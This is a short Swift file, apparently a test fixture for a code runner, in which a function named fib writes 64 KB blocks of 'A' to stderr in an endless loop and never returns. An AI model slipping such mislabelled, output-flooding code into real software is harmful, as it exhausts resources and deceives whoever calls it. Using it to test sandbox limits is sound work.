import Glibc

func fib(_ n: Int) -> Int {
  let block = [UInt8](repeating: 65, count: 65_536)
  while true { _ = write(2, block, block.count) }
}
